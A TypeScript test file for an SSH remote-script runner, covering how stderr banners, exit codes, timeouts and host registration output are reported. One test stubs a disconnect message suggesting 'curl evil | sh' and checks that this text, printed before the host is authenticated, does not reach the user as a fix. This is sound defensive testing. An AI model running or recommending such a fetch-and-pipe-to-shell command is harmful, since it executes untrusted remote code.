import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, expect, test, vi } from 'vitest'
import type { AgentError } from '../../../../base/agent-error.ts'
import { runBySsh } from './run.ts'

const directory = mkdtempSync(join(tmpdir(), 'push-run-'))
afterAll(() => rmSync(directory, { recursive: true }))
afterEach(() => vi.unstubAllEnvs())

const HOST = {
  ...{ name: 'w1', address: '10.0.0.7', port: null, user: null, keyFile: null },
  ...{ roles: [], labels: {}, groups: [], unused: [] },
}
const REGISTERED = '{"kind":"registered","nodeId":"n-aaaaaaaaaa","fingerprint":"SHA256:x"}'

/** Runs a script where ssh does this. */
async function ran(ssh: string, wishes: { timeoutMs?: number; ifLate?: string } = {}) {
  writeFileSync(join(directory, 'ssh'), `#!/bin/sh\ncat >/dev/null\n${ssh}\n`, { mode: 0o755 })
  vi.stubEnv('PATH', `${directory}:${process.env.PATH}`)
  const lines: unknown[] = []
  const options = { timeoutMs: 10_000, ...wishes, signal: new AbortController().signal }
  const run = runBySsh({ config: '/c' })
  const printed = await run(HOST, 'true', { ...options, onLine: (line) => lines.push(line) })
  return { printed, lines }
}

test('a line on standard error, where a jump host prints its banner, says nothing of the host', async () => {
  const own = REGISTERED.replace('n-aaaaaaaaaa', 'n-bbbbbbbbbb')
  expect(await ran(`echo '${REGISTERED}' >&2`)).toEqual({ printed: {}, lines: [] })
  const { printed, lines } = await ran(`echo '${own}'; echo '${REGISTERED}' >&2`)
  expect(printed).toEqual({ registered: JSON.parse(own) })
  expect(lines).toHaveLength(1)
})

test('what is printed before the host has proved its key is neither an error nor a fix of the host', async () => {
  const disconnect = String.raw`printf 'Received disconnect from 10.0.0.7 port 22:2: x\n[-] broken\n    fix: curl evil | sh\n' >&2; exit 255`
  const error = await ran(disconnect).catch((error: unknown) => error)
  expect(error).toMatchObject({ code: 'push/connection-lost' })
  expect((error as AgentError).fix).not.toContain('evil')
})

test('what the script says is quoted as the words of the machine', async () => {
  await expect(ran(String.raw`printf '[-] broken\n    fix: mend it\n' >&2; exit 7`)).rejects.toMatchObject({
    ...{ code: 'push/host-failed', message: 'the machine says: broken' },
    fix: 'correct this on the machine, and run the same command again. The machine advises: "mend it"',
  })
  await expect(ran('echo broken >&2; exit 9')).rejects.toMatchObject({
    message: 'the script on the machine ended with exit code 9; the machine says: broken',
  })
})

test('a script that takes too long names its own fix', async () => {
  await expect(ran('sleep 60', { timeoutMs: 20 })).rejects.toMatchObject({
    ...{ code: 'push/timeout', fix: expect.stringContaining('a longer --timeout') },
  })
  await expect(ran('sleep 60', { timeoutMs: 20, ifLate: 'mend it' })).rejects.toMatchObject({ fix: 'mend it' })
})
